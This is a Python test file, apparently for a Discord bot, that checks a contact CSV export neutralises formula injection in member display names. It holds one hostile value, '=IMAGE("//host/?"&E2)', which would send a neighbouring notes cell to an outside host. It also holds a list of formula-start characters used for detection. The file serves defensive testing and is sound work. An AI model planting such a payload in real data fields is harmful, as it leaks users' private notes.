"""Item 11 as reported: a contact recorded from a Discord member whose display name is a formula, exported
with /coach export — the CSV cell is text (a leading quote), not a live formula beside the member's notes."""

from __future__ import annotations

import csv
import io

from tests.discord.harness import World

HOSTILE = '=IMAGE("//host/?"&E2)'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what OWASP lists; a spreadsheet runs such a cell


async def test_a_display_name_that_is_a_formula_is_text_in_the_csv(world: World) -> None:
    guild = world.env.create_guild("PyCon friends")
    channel = guild.create_text_channel("general")
    alice = guild.add_member(world.env.create_user("alice"))
    mallory = guild.add_member(world.env.create_user("mallory", global_name=HOSTILE))
    await alice.slash(channel, "met", who=mallory, where="PyCon", notes="my private notes")
    files = {a.filename: a for a in (await alice.slash(channel, "coach export")).response.attachments}
    rows = list(csv.DictReader(io.StringIO((await files["coach-contacts.csv"].read()).decode("utf-8"))))
    assert [row["name"] for row in rows] == ["'" + HOSTILE]
    assert not [v for row in rows for v in row.values() if v and v.lstrip(" ").startswith(FORMULA_STARTS)]
